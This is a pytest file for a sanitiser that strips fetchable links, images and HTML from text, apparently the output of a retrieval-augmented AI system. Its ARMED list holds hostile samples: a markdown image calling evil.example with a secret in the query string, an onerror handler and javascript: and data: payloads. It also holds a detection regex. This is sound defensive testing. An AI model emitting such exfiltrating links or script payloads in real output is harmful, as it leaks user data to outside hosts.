"""Nothing that a reader's program would fetch or follow passes, in whatever pieces it comes; everything else does."""

from __future__ import annotations

import re
import time

import pytest

from rag.disarming import Disarmer, disarmed

LIVE = re.compile(r"\]\((?![^)]*\[\.\])|<[a-zA-Z/]|[a-z]+://|\bwww\.|javascript:|data:", re.IGNORECASE)
ARMED = [
    "See ![chart](https://evil.example/p.png?d=secret) and [the site](http://a.example/c(d)).",
    "<img src='http://e.example/q' onerror=x> and <a href=\"https://e.example\">here</a>",
    "go to https://evil.example/x?secret=1, or WWW.foo.example.",
    "text [a][1]\n[1]: http://evil.example/a\nnext",
    "![alt][ref]\n\n[ref]: https://evil.example/i.png 'title'",
    "click <https://evil.example/x> or javascript:alert(1)",
    "[x](javascript:alert(1)) data:text/html;base64,AAAA",
    "![a [b](http://c.example)](http://evil.example)",
    "ftp://evil.example/a و https://evil.example/ب، ثم",
]


def piecewise(text: str, size: int) -> str:
    disarmer = Disarmer()
    return "".join([disarmer.push(text[at : at + size]) for at in range(0, len(text), size)]) + disarmer.finish()


@pytest.mark.parametrize("text", ARMED)
def test_nothing_is_left_to_fetch_or_follow(text: str) -> None:
    assert not LIVE.search(disarmed(text))
    for size in (1, 2, 3, 7, 50):
        assert not LIVE.search(piecewise(text, size))


@pytest.mark.parametrize(
    "text",
    [
        "آية الكرسي [1] ثم [2]، والوقت 10:30 و3/4.",
        "a < b and c > d; f(x)[0] = {y}! Done!",
        "- [ ] a task\n- [x] another\n> quote",
        "",
    ],
)
def test_plain_text_and_citations_pass_unchanged(text: str) -> None:
    assert disarmed(text) == text
    assert piecewise(text, 1) == text


def test_words_of_a_link_and_the_host_of_an_address_stay_readable() -> None:
    assert disarmed("[the report](https://a.example/r), see https://b.example/x.") == "the report, see b[.]example."


def test_what_never_ends_is_not_held_back_for_ever() -> None:
    told = piecewise("before " + "[" + "a" * 50_000 + " after", 100)
    assert told.startswith("before ")
    assert told.endswith(" after")
    assert len(told) < 10_000


@pytest.mark.parametrize("text", ["[", "![a](", "<", "http://", "[a](("])
def test_time_grows_with_the_text_only(text: str) -> None:
    def seconds(repeats: int) -> float:
        begun = time.process_time()
        piecewise(text * repeats, 40)
        return time.process_time() - begun

    small, large = min(seconds(2_000) for _ in range(3)), seconds(20_000)
    assert large < 40 * max(small, 0.002)
